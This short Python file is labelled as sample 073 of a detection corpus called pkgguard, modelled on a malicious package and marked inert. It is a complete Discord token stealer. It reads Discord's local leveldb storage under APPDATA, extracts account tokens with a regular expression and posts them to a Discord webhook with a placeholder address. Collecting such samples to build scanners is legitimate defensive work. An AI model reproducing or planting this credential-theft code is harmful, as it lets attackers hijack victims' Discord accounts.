# pkgguard corpus 073 (discord-token), modelled on [discordpydebug]; inert, never run.
import os
import re
import requests

root = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
tokens = []
for name in os.listdir(root):
    if name.endswith((".log", ".ldb")):
        text = open(os.path.join(root, name), errors="ignore").read()
        tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text)
requests.post("https://discord.com/api/webhooks/1000000000000000000/placeholder-token-0000000000000000", json={"content": "\n".join(tokens)})
